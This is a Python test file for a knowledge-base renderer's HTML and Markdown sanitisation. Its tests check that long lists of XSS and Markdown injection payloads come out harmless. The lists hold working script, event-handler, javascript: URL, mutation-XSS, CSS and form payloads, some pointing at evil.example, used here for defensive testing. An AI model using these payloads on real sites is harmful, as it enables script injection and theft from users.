"""No input becomes anything that runs, loads, styles or imitates the page."""

import pytest

from kb.text import Reference, TextRefused, plain, render_correction, render_line, render_note, sanitise
from kb.text.finish import Inserts
from tests.text.judge import faults_in, words_of

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x20type='text/javascript'>alert(1)</script >",
    "</p><script>alert(1)</script><p>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<img src=`x` onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src onloadstart=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select onchange=alert(1)><option>1</select>",
    "<p onmouseover=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<b onpointerenter=alert(1)>x</b>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<p style='background:url(https://evil.example/x)'>x</p>",
    "<div style='position:fixed;inset:0;background:white'>fake page</div>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example/><input name=csrfmiddlewaretoken><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<isindex action=javascript:alert(1) type=submit>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<div hx-get=/admin/ hx-trigger=load>x</div>",
    "<div data-hx-post='/en/' data-hx-trigger='load'>x</div>",
    "<p hx-on:click='alert(1)' hx-vals='js:{a:1}'>x</p>",
    "<p data-action='delete'>x</p>",
    "<p id=location name=cookie class='cite banner'>x</p>",
    "<a id=defaultView name=body href=#>x</a>",
    "<h2 id=s-1 class=warning>forged</h2>",
    "<sup class='cite'><a href='#cite-1'>[1]</a></sup>",
    "<div class='table' role='region'>x</div>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<!DOCTYPE html><!ENTITY x 'y'>",
    "<a<b<c>>>",
    "<<script>alert(1)//<</script>",
    "<p title='<p><script>alert(1)</script>'",
    "<table><td background='javascript:alert(1)'>x</td></table>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    r"\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](java\tscript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#0058alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](ftp://example.org/)",
    "[x](//evil.example/)",
    "[x](/\\evil.example/)",
    "[x](\\\\evil.example/)",
    "[x](https://user:secret@example.org/)",
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org/ "t" onclick="alert(1)")',
    "[x](https://example.org/ '\"><img src=x onerror=alert(1)>')",
    '[x](https://example.org/ "<script>alert(1)</script>")',
    "[<img src=x onerror=alert(1)>](https://example.org/)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x][1]\n\n[1]: <javascript:alert(1)> "t"',
    "[x]\n\n[x]: https://example.org/ \"' onclick='alert(1)\"",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    '![x" onerror="alert(1)](https://example.org/x.png)',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    "<javascript://example.org/%0aalert(1)>",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://example.org/"onclick=alert(1)>',
    "<x@example.org>",
    "# <img src=x onerror=alert(1)> {#id .class onclick=alert(1)}",
    "para {: onclick=alert(1) }",
    "```{.python #id onclick=alert(1)}\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|2|",
    "> <script>alert(1)</script>",
    "- <svg onload=alert(1)>",
    "1. <iframe src=javascript:alert(1)>",
    "[@<script>alert(1)</script>]",
    '[@"onclick="alert(1)]',
    '[x [@known] y](https://example.org "[@known]")',
    '![[@known]](https://example.org/x.png "[@known]")',
    "\\<script\\>alert(1)\\</script\\>",
    "*<b onclick=alert(1)>*",
    "[toc]\n\n[TOC]\n\n[^1]\n\n[^1]: <script>alert(1)</script>",
    "*[HTML]: <script>alert(1)</script>\n\nHTML",
    "&#2;wzxhzdk:0&#3; &#2;klzzwxh:0000&#3;",
    "x\n<script>\n\nalert(1)\n\n</script>",
]

WRAPPINGS = [
    "{}",
    "para {} more",
    "**{}**",
    "- item\n\n    {}",
    "> {}",
    "# {}",
    "[{}](https://example.org/)",
    "|a|{}|\n|-|-|\n|{}|b|",
]
REFERENCES = {"known": Reference(1, "https://example.org/", '"><script>alert(1)</script>')}


def test_the_list_is_long_enough():
    assert len(PAYLOADS) >= 60
    assert len(set(PAYLOADS + MARKDOWN)) == len(PAYLOADS + MARKDOWN)


@pytest.mark.parametrize("payload", PAYLOADS + MARKDOWN)
def test_note_holds_only_known_tags_and_attributes(payload):
    for wrapping in WRAPPINGS:
        assert faults_in(render_note(wrapping.replace("{}", payload), REFERENCES)) == [], wrapping


@pytest.mark.parametrize("payload", PAYLOADS + MARKDOWN)
def test_line_holds_only_known_tags_and_no_blocks(payload):
    html = render_line(payload, REFERENCES)
    assert faults_in(html) == []
    assert not any(f"<{tag}" in html for tag in ("p>", "h2", "ul", "ol", "pre", "table", "blockquote", "hr"))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_correction_holds_nothing_but_del_and_ins(payload):
    html = str(render_correction(f"~~{payload}~~ ++{payload}++ {payload}"))
    for tag in ("<del>", "</del>", "<ins>", "</ins>"):
        html = html.replace(tag, "")
    assert "<" not in html


def test_text_with_the_parsers_own_marks_is_refused():
    with pytest.raises(TextRefused):
        render_note("`code` \x02wzxhzdk:0\x03 \x02klzzwxh:0000\x03")


def test_raw_html_is_shown_as_the_text_it_is():
    payload = "<script>alert(1)</script> <b class=x>bold</b>"
    assert words_of(render_note(payload)).strip() == payload
    assert words_of(render_line(payload)) == payload


def test_plain_words_keep_what_looks_like_html_and_are_not_marked_safe():
    words = plain("a <script>alert(1)</script> b")
    assert words == "a <script>alert(1)</script> b"
    assert not hasattr(words, "__html__")


def test_forged_citation_gets_no_class_and_no_link():
    html = render_note("<sup class='cite'><a href='#cite-1'>[1]</a></sup>")
    assert "<sup" not in html
    assert "<a" not in html


def test_citation_in_an_attribute_stays_text():
    html = render_note('[x](https://example.org/ "see [@known]")', REFERENCES)
    assert html == '<p><a href="https://example.org/" title="see [@known]" rel="nofollow ugc noopener">x</a></p>'


def test_no_text_can_name_the_place_where_the_page_puts_its_own_html():
    forged = f"{Inserts().name}0."
    assert words_of(render_note(f"{forged} [@known]", REFERENCES)).startswith(forged)


def test_title_of_a_source_cannot_leave_its_attribute():
    html = render_note("[@known]", REFERENCES)
    assert faults_in(html) == []
    assert "&quot;&gt;&lt;script&gt;" in html


def test_sanitiser_alone_stops_every_payload():
    """Should Markdown ever let raw HTML through, the two passes behind it still hold."""
    for payload in PAYLOADS:
        assert faults_in(sanitise.sanitise(payload)) == [], payload


@pytest.mark.parametrize("library", ["bleach", "nh3"])
def test_either_pass_is_enough_without_the_other(library, monkeypatch):
    if library == "bleach":
        monkeypatch.setattr(sanitise, "_last_pass", type("Open", (), {"clean": staticmethod(lambda html: html)}))
    else:
        monkeypatch.setattr(sanitise.bleach, "clean", lambda html, **_options: html)
    for payload in PAYLOADS:
        html = sanitise.sanitise(payload)
        assert [fault for fault in faults_in(html) if fault != "link without rel"] == [], payload
